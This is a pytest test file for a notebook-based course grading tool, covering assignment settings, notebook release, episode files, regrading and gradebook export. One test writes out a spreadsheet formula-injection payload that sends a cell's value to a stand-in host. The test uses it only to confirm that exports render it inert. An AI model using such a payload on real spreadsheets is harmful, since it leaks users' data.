"""Course mode: assignment files, release, episode files, collection, regrading, gradebook.

The round trip is real: a released notebook runs in a real kernel (nbclient) as a student on
JupyterHub would run it, and the collected episode files are regraded in real sandboxes. The
rest needs no kernel; where a grading run must not grade anything, it gets a sandbox that fails
the test if it is ever used."""

from __future__ import annotations

import csv
import json
import math
import sys
from datetime import datetime, timezone
from pathlib import Path

import pytest

# imported here, not in the test: a first import racing the sandbox pool's threads can deadlock
from jupyter_client.kernelspec import KernelSpecManager
from jupyter_client.manager import KernelManager

from whipstudio_nb import WhipEnv, list_tasks, load_task
from whipstudio_nb.course import (
    CSV_FIELDS,
    AssignmentError,
    EpisodeFileError,
    EpisodeRecord,
    TaskRefusedError,
    grade_submissions,
    load_assignment,
    load_episode,
    release,
    write_outputs,
)
from whipstudio_nb.episode_file import TrailEntry
from whipstudio_nb.models import GradeResult

ASSIGNMENT = """\
name = "Week 3: training loops"
tasks = ["task1", "task2"]
seed_policy = "per_student"
seed = 7
max_submissions = 2
hints = 1
deadline = 2099-12-11T23:59:00Z
"""
# the header instructors' spreadsheets and scripts depend on: change it only on purpose
EXPECTED_HEADER = [
    "student",
    "task",
    "score",
    "solved",
    "turns",
    "submissions",
    "components",
    "tampered",
    "late",
    "recorded_score",
    "seed",
    "file",
    "reason",
]


def write_assignment(tmp_path: Path, text: str = ASSIGNMENT, name: str = "assignment.toml") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


class UnusableSandbox:
    """For runs where nothing may be graded: any use fails the test."""

    isolation = "none"

    def kernel(self):  # pragma: no cover - reaching it is the failure
        raise AssertionError("a submission that cannot be graded reached a sandbox")


# ------------------------------------------------------------------ the assignment file


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ('seed_policy = "per_student"', "field 'seed_policy'"),
        ('tasks = ["task1", "task2"]', "field 'tasks'"),
        ("hints = 1", "field 'hints'"),
        ("deadline = 2099-12-11T23:59:00Z", "field 'deadline': needs a time zone"),
        ("max_submissions = 2", "field 'max_submissions'"),
    ],
)
def test_invalid_settings_name_the_file_and_field(
    tmp_path: Path, change: str, message: str
) -> None:
    bad = {
        'seed_policy = "per_student"': 'seed_policy = "random"',
        'tasks = ["task1", "task2"]': 'tasks = ["task1", "task1"]',
        "hints = 1": "hints = -2",
        "deadline = 2099-12-11T23:59:00Z": "deadline = 2099-12-11T23:59:00",
        "max_submissions = 2": "max_submissions = 0",
    }[change]
    path = write_assignment(tmp_path, ASSIGNMENT.replace(change, bad))
    with pytest.raises(AssignmentError) as exc:
        load_assignment(path)
    assert str(path) in str(exc.value) and message in str(exc.value)


def test_unknown_settings_tasks_and_toml_errors_are_reported(tmp_path: Path) -> None:
    cases = {
        ASSIGNMENT + "max_hints = 3\n": "field 'max_hints' is not an assignment setting",
        ASSIGNMENT.replace('"task2"', '"task99"'): "no task pack 'task99'",
        ASSIGNMENT.replace("name = ", "nam = "): "field 'name' is required",
        ASSIGNMENT + "tasks = [\n": "invalid TOML",
    }
    for text, message in cases.items():
        with pytest.raises(AssignmentError, match=message):
            load_assignment(write_assignment(tmp_path, text))
    with pytest.raises(AssignmentError, match="cannot read"):
        load_assignment(tmp_path / "nope.toml")
    ok = load_assignment(write_assignment(tmp_path))
    assert ok.tasks == ["task1", "task2"] and ok.hint_limit == 1 and ok.max_turns is None


def test_per_student_seeds_give_different_variants_and_stay_put(tmp_path: Path) -> None:
    a = load_assignment(write_assignment(tmp_path))
    students = [f"student{i:02d}" for i in range(12)]
    variants = {str(load_task("task1", seed=a.seed_for("task1", s)).params) for s in students}
    assert len(variants) >= 4  # neighbours see different scripts
    codes = {load_task("task1", seed=a.seed_for("task1", s)).buggy_code for s in students}
    assert len(codes) >= 4
    assert a.seed_for("task1", "ada") == a.seed_for("task1", " ada ")  # stable per student
    assert a.seed_for("task1", "ada") != a.seed_for("task2", "ada")  # and per task
    with pytest.raises(AssignmentError, match="student id"):
        a.seed_for("task1", "")
    fixed = load_assignment(
        write_assignment(tmp_path, ASSIGNMENT.replace('"per_student"', '"fixed"'))
    )
    assert {fixed.seed_for("task1", s) for s in students} == {7}


def test_tasks_outside_the_assignment_are_refused(tmp_path: Path) -> None:
    a = load_assignment(write_assignment(tmp_path))
    a.check_task("task2")
    with pytest.raises(TaskRefusedError, match="task5 is not part of the assignment"):
        a.check_task("task5")


def test_magics_pinned_to_an_assignment_list_and_refuse(tmp_path: Path, monkeypatch) -> None:
    from IPython.core.interactiveshell import InteractiveShell

    from whipstudio_nb.notebook.magics import WhipMagics

    monkeypatch.chdir(tmp_path)
    write_assignment(tmp_path)
    m = WhipMagics(shell=InteractiveShell.instance(), warm_start=False)
    assert len(m.whip_tasks("")) == len(list_tasks())  # not pinned: every task
    m.assignment = "assignment.toml"
    assert [t.id for t in m.whip_tasks("")] == ["task1", "task2"]
    refused = m.whip_reset("task5")
    assert "task5 is not part of the assignment 'Week 3: training loops'" in refused.text()
    monkeypatch.delenv("JUPYTERHUB_USER", raising=False)
    monkeypatch.delenv("WHIP_STUDENT_ID", raising=False)
    no_id = m.whip_reset("task1")
    assert "set your student id" in no_id.text()
    assert m._env is None  # refused before any sandbox started
    m.student_id = "ada"
    chosen = m.whip_reset("task1 --seed 3")
    assert "sets the variant" in chosen.text()


# ------------------------------------------------------------------------------ release


def test_release_writes_pinned_student_notebooks(tmp_path: Path) -> None:
    nbformat = pytest.importorskip("nbformat")
    a = load_assignment(write_assignment(tmp_path))
    out = tmp_path / "release"
    written = release(a, out)
    assert [p.name for p in written] == ["assignment.toml", "task1.ipynb", "task2.ipynb"]
    nb = nbformat.read(out / "task1.ipynb", as_version=4)
    nbformat.validate(nb)
    code = [c.source for c in nb.cells if c.cell_type == "code"]
    assert code[0].splitlines()[0] == "%load_ext whipstudio_nb"
    assert '%config WhipMagics.assignment = "assignment.toml"' in code[0]
    assert code[0].splitlines()[-1] == "%whip_reset task1"
    assert code[-1] == "%whip_save task1.episode.json"
    prose = "\n".join(c.source for c in nb.cells if c.cell_type == "markdown")
    assert "Broken Training Loop" in prose and "2 submissions and 1 hint per task" in prose
    assert "2099-12-11T23:59:00+00:00" in prose
    assert all("solution" not in c.source.lower() for c in nb.cells)
    with pytest.raises(AssignmentError, match="not overwriting"):
        release(a, out)
    combined = release(a, tmp_path / "combined", combined=True)
    nb = nbformat.read(combined[1], as_version=4)
    sources = [c.source for c in nb.cells if c.cell_type == "code"]
    assert "%whip_reset task1" in sources and "%whip_save task2.episode.json" in sources


# -------------------------------------------------------------------------- episode files


def test_episode_files_are_strict_json_and_load_back(tmp_path: Path) -> None:
    rec = EpisodeRecord(
        task_id="task1",
        student_id="ada",
        seed=3,
        final_code="print('hi')\n",
        working_code="x = 1\n",
        score=0.5,
        components={"heldout_loss": float("nan"), "trained": 1.0},
        trail=[TrailEntry(turn=1, action_type="submit_fix", reward=float("inf"))],
    )
    path = rec.write(tmp_path / "ep.json")
    text = path.read_text()
    json.loads(text, parse_constant=lambda c: pytest.fail(f"non-strict constant {c}"))
    assert json.loads(text)["non_finite"] == {
        "/components/heldout_loss": "NaN",
        "/trail/0/reward": "Infinity",
    }  # the project's strict JSON: null, and a note of what it stood for
    back = load_episode(path)
    assert math.isnan(back.components["heldout_loss"]) and back.components["trained"] == 1.0
    assert back.trail[0].reward == math.inf
    assert back.final_code == rec.final_code and back.saved_at == rec.saved_at
    bad = {
        "nan.json": text.replace('"score": 0.5', '"score": NaN'),
        "extra.json": text.replace('"seed": 3', '"seed": 3, "sneaky": 1'),
        "other.json": json.dumps({"hello": "world"}),
        "trunc.json": text[: len(text) // 2],
    }
    for name, content in bad.items():
        (tmp_path / name).write_text(content)
        with pytest.raises(EpisodeFileError, match=name):
            load_episode(tmp_path / name)
    with pytest.raises(EpisodeFileError, match="cannot read"):
        load_episode(tmp_path / "missing.json")


# ---------------------------------------------------------------- collection and gradebook


def test_bad_missing_and_refused_files_become_rows_with_reasons(tmp_path: Path) -> None:
    a = load_assignment(write_assignment(tmp_path))
    subs = tmp_path / "submitted"
    (subs / "eve").mkdir(parents=True)
    (subs / "eve" / "task1.episode.json").write_text("{ not json")
    (subs / "eve" / "task5.py").write_text("print('wrong task')\n")
    (subs / "eve" / ".ipynb_checkpoints").mkdir()
    (subs / "eve" / ".ipynb_checkpoints" / "task2.py").write_text("ignored")
    (subs / "fay").mkdir()
    (subs / "stray.py").write_text("x = 1\n")
    rows = grade_submissions(subs, a, sandbox=UnusableSandbox(), roster=["eve", "fay", "gus"])
    by = {(r.student, r.task): r for r in rows}
    assert "not valid JSON" in by[("eve", "task1")].reasons[0]
    assert by[("eve", "task2")].reasons == ["no submission"]  # the checkpoint copy is skipped
    assert "task5 is not part of the assignment" in by[("eve", "task5")].reasons[0]
    assert by[("fay", "task1")].reasons == ["no submission"]
    assert by[("gus", "task2")].reasons == ["no submission"]  # on the roster, never handed in
    assert "whose is it?" in by[("?", "stray")].reasons[0]
    assert all(not r.graded and r.score == 0.0 for r in rows)
    out = tmp_path / "grades"
    write_outputs(rows, a, out)
    with (out / "grades.csv").open() as f:
        reader = csv.DictReader(f)
        assert reader.fieldnames == EXPECTED_HEADER
        got = list(reader)
    assert len(got) == len(rows) == 8
    assert (out / "feedback" / "eve.html").is_file() and (out / "summary.html").is_file()


def test_course_exports_are_what_they_claim() -> None:
    import whipstudio_nb.course as course

    for name in course.__all__:
        assert getattr(course, name) is not None, name
    assert course.load_episode is load_episode


def test_whip_course_commands(tmp_path: Path, capsys) -> None:
    from whipstudio_nb.cli import main

    path = write_assignment(tmp_path)
    assert main(["course", "release", str(path), str(tmp_path / "out"), "--combined"]) == 0
    assert "week_3_training_loops.ipynb" in capsys.readouterr().out
    subs = tmp_path / "submitted"
    (subs / "eve").mkdir(parents=True)
    (subs / "eve" / "task1.episode.json").write_text("[]")
    args = ["course", "grade", str(subs), "--assignment", str(path), "--out", str(tmp_path / "g")]
    assert main(args) == 0  # nothing gradable: no sandbox is even started
    assert "not graded: 2" in capsys.readouterr().out
    assert (tmp_path / "g" / "grades.csv").read_text().count("\n") == 3
    assert (
        main(
            [
                "course",
                "grade",
                str(subs),
                "--assignment",
                str(tmp_path / "no.toml"),
                "--out",
                str(tmp_path / "g"),
            ]
        )
        == 2
    )
    assert "cannot read the assignment" in capsys.readouterr().err


def test_a_big_class_gets_every_feedback_page(tmp_path: Path) -> None:
    from whipstudio_nb.course.feedback import PARALLEL_FROM

    a = load_assignment(write_assignment(tmp_path))
    subs = tmp_path / "submitted"
    students = [f"s{i}" for i in range(PARALLEL_FROM)] + ["a b", "a_b"]
    for s in students:
        (subs / s).mkdir(parents=True)
    rows = grade_submissions(subs, a, sandbox=UnusableSandbox())
    written = write_outputs(rows, a, tmp_path / "g", workers=2)  # drawn in 2 processes
    pages = sorted(p.name for p in written if p.parent.name == "feedback")
    assert len(pages) == len(students) and "a_b.html" in pages
    for s in ("s0", "a b", "a_b"):
        page = next(p for p in written if f"feedback for {s}<" in p.read_text())
        assert page.parent.name == "feedback"


def test_csv_header_is_stable() -> None:
    assert list(CSV_FIELDS) == EXPECTED_HEADER


def test_student_text_cannot_become_a_spreadsheet_formula(tmp_path: Path) -> None:
    a = load_assignment(write_assignment(tmp_path))
    subs = tmp_path / "submitted"
    subs.mkdir()
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    EpisodeRecord(task_id="-2+3", student_id=evil).write(subs / "ep.json")
    rows = grade_submissions(subs, a, sandbox=UnusableSandbox())
    write_outputs(rows, a, tmp_path / "grades")
    with (tmp_path / "grades" / "grades.csv").open() as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if c and c[0] in "=+-@"], cells
    assert f"'{evil}" in cells  # kept, readable, inert


def test_any_action_leaves_a_trail_that_exports(tmp_path: Path, sandbox) -> None:
    with WhipEnv(sandbox=sandbox) as env:
        env.reset("task1")
        res = env.step({"action_type": "execute_snippet", "code": object()})  # an agent's mistake
        assert res.observation.error
        env.step({"action_type": "execute_snippet", "code": "import requests"})  # refused
        deep: dict = {}
        for _ in range(5000):
            deep = {"x": deep}
        env.step({"action_type": "execute_snippet", "code": "1", "extra": deep})  # refused
        rec = env.export(tmp_path / "ep.json", student_id="ada")
    back = load_episode(tmp_path / "ep.json")
    assert back == rec and [t.turn for t in back.trail] == [1, 1, 1]
    assert back.trail[1].error and "requests" in back.trail[1].error
    assert back.final_code is None and back.score is None and back.working_code


def test_every_contradicted_claim_is_named(tmp_path: Path) -> None:
    from whipstudio_nb.course.collect import Submission
    from whipstudio_nb.course.grade import GradeRow, _claims
    from whipstudio_nb.episode_file import code_digest

    a = load_assignment(write_assignment(tmp_path))
    code = "print('fixed')\n"
    honest = EpisodeRecord(
        task_id="task1",
        student_id="ada",
        assignment=a.name,
        seed=a.seed_for("task1", "ada"),
        turns=2,
        submissions=1,
        final_code=code,
        score=0.8,
        components={"heldout_metric": 0.8, "trained": 0.8},
        trail=[
            TrailEntry(turn=1, action_type="view_code"),
            TrailEntry(turn=2, action_type="submit_fix", code_sha256=code_digest(code)),
        ],
    )
    row = GradeRow("ada", "task1", score=0.8, seed=a.seed_for("task1", "ada"))
    row.result = GradeResult(
        score=0.8, details={"weights": {"heldout_metric": 0.5, "trained": 0.5}}
    )
    sub = Submission("ada", "task1", "episode")
    assert _claims(honest, sub, a, row, variants=True) == []
    cases = {
        "saved by 'bob' but collected from 'ada'": {"student_id": "bob"},
        "played variant seed 3": {"seed": 3},
        "saved under another assignment": {"assignment": "Week 1"},
        "recorded score 0.990, but its recorded components give 0.800": {"score": 0.99},
        "not the code the trail last submitted": {"final_code": "print('borrowed')\n"},
        "3 submissions; the assignment allows 2": {"submissions": 3},
    }
    for reason, change in cases.items():
        claims = _claims(honest.model_copy(update=change), sub, a, row, variants=True)
        assert any(reason in c for c in claims), (reason, claims)
    # the notebook's hidden data differed from the regrade's: a consistent record a little above
    # it is no claim; one far above it (components forged too) is
    world = honest.model_copy(
        update={"score": 0.9, "components": {"heldout_metric": 0.9, "trained": 0.9}}
    )
    assert _claims(world, sub, a, row, variants=True) == []
    forged = world.model_copy(
        update={"score": 1.0, "components": {"heldout_metric": 1.0, "trained": 1.0}}
    )
    low = GradeRow("ada", "task1", score=0.3, seed=row.seed, result=row.result)
    assert _claims(forged, sub, a, low, variants=True) == ["recorded score 1.000, regraded 0.300"]
    # a task without variants has no seed to get wrong
    assert _claims(honest.model_copy(update={"seed": 3}), sub, a, row, variants=False) == []
    late = datetime(2100, 1, 1, tzinfo=timezone.utc)
    assert a.is_late(late) and not a.is_late(honest.saved_at)


# ----------------------------------------------------- the round trip, with real kernels


def _run_student_notebook(path: Path, fix: str, kernel_dirs: str):
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    nb = nbformat.read(path, as_version=4)
    save = next(i for i, c in enumerate(nb.cells) if c.source.startswith("%whip_save"))
    work = ["%whip_tasks", "%whip_hint", "%whip_hint", "%%whip_submit\n" + fix]  # the student's
    for source in reversed(work):
        nb.cells.insert(save, nbformat.v4.new_code_cell(source))
    km = KernelManager(
        kernel_name="whip-course-test",
        kernel_spec_manager=KernelSpecManager(kernel_dirs=[kernel_dirs]),
    )
    client = nbclient.NotebookClient(
        nb,
        km=km,
        timeout=300,
        allow_errors=False,
        resources={"metadata": {"path": str(path.parent)}},
    )
    client.execute()
    outputs = [o for c in nb.cells for o in c.get("outputs", [])]
    texts = [o.get("data", {}).get("text/plain", "") + o.get("text", "") for o in outputs]
    assert not any(t.startswith("Error:") for t in texts), texts
    return nb


def _text_of(nb, source: str) -> str:
    cells = [c for c in nb.cells if c.cell_type == "code" and c.source == source]
    outs = [o for c in cells for o in c.outputs]
    return "".join(o.get("data", {}).get("text/plain", "") + o.get("text", "") for o in outs)


@pytest.mark.slow
def test_release_export_grade_round_trip(tmp_path: Path, sandbox, monkeypatch) -> None:
    a = load_assignment(
        write_assignment(tmp_path, ASSIGNMENT.replace('"task1", "task2"', '"task1"'))
    )
    # ada works in the released notebook, in a real kernel, as JupyterHub user 'ada'
    spec = tmp_path / "kernels" / "whip-course-test"
    spec.mkdir(parents=True)
    (spec / "kernel.json").write_text(
        json.dumps(
            {
                "argv": [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}"],
                "display_name": "course test",
                "language": "python",
            }
        )
    )
    home = tmp_path / "ada-home"
    release(a, home)
    monkeypatch.setenv("JUPYTERHUB_USER", "ada")
    ada_fix = load_task("task1", seed=a.seed_for("task1", "ada")).solution_code
    nb = _run_student_notebook(home / "task1.ipynb", ada_fix, str(spec.parent))
    monkeypatch.delenv("JUPYTERHUB_USER")
    listed = _text_of(nb, "%whip_tasks")
    assert "task1" in listed and "task2" not in listed  # only the assignment's tasks
    hints = load_task("task1").hints
    assert len(hints) > 1 and _text_of(nb, "%whip_hint").count("Hint 1 of 1") == 2  # hints = 1
    saved = load_episode(home / "task1.episode.json")
    assert (saved.student_id, saved.assignment, saved.task_id) == ("ada", a.name, "task1")
    assert saved.seed == a.seed_for("task1", "ada") and saved.final_code == ada_fix
    assert [t.action_type for t in saved.trail] == ["submit_fix"] and saved.submissions == 1
    assert saved.max_submissions == a.max_submissions  # the assignment's limit, not the default
    assert saved.score is not None and saved.score >= 0.85 and saved.components

    subs = tmp_path / "submitted"
    (subs / "ada").mkdir(parents=True)
    (subs / "ada" / "task1.episode.json").write_bytes((home / "task1.episode.json").read_bytes())
    # ben and cy play through the API; ben's partial fix, cy's printed metrics
    for student in ("ben", "cy"):
        seed = a.seed_for("task1", student)
        task = load_task("task1", seed=seed)
        code = (
            task.partial_code if student == "ben" else task.buggy_code + 'print("VAL_ACC:0.99")\n'
        )
        with WhipEnv(sandbox=sandbox, max_submissions=a.max_submissions) as env:
            env.reset("task1", seed=seed)
            env.step({"action_type": "view_code"})
            env.step({"action_type": "submit_fix", "fixed_code": code})
            env.export(subs / student / "task1.episode.json", student_id=student, assignment=a.name)
    (subs / "ben" / "timestamp.txt").write_text("2100-01-02 09:30:00.000000 UTC")  # nbgrader's
    cy = subs / "cy" / "task1.episode.json"
    edited = json.loads(cy.read_text())
    edited["score"] = 0.99  # cy polishes the recorded score
    cy.write_text(json.dumps(edited))

    rows = grade_submissions(subs, a, sandbox=sandbox, workers=2)
    by = {r.student: r for r in rows}
    assert by["ada"].solved and not by["ada"].tampered
    assert all("each grading draws its own hidden data" in r for r in by["ada"].reasons)
    # the regrade agrees with the notebook, up to the spread between hidden worlds (every
    # grading run draws its own held-out data: the reference fix scores 0.9-1.0 across them)
    assert abs(by["ada"].score - saved.score) <= 0.15, (by["ada"].components, saved.components)
    assert 0.3 < by["ben"].score < 0.9 and not by["ben"].tampered
    assert by["cy"].score <= 0.05 and by["cy"].tampered
    assert "recorded score 0.990" in "; ".join(by["cy"].reasons)
    assert (by["ben"].turns, by["ben"].submissions) == (1, 1)  # view_code is free
    assert by["ben"].late and not by["ada"].late and not by["cy"].late
    assert "handed in after the deadline (2100-01-02T09:30:00+00:00)" in by["ben"].reasons

    out = tmp_path / "grades"
    write_outputs(rows, a, out)
    with (out / "grades.csv").open() as f:
        table = {r["student"]: r for r in csv.DictReader(f)}
    assert table["cy"]["tampered"] == "true" and table["ada"]["solved"] == "true"
    assert "heldout_metric=" in table["ben"]["components"]
    page = (out / "feedback" / "ben.html").read_text()
    assert "data:image/png;base64," in page and "Grade report" in page and "whip-diff" in page
    summary = (out / "summary.html").read_text()
    assert (
        summary.count("data:image/png;base64,") == 1 and "most common failing component" in summary
    )
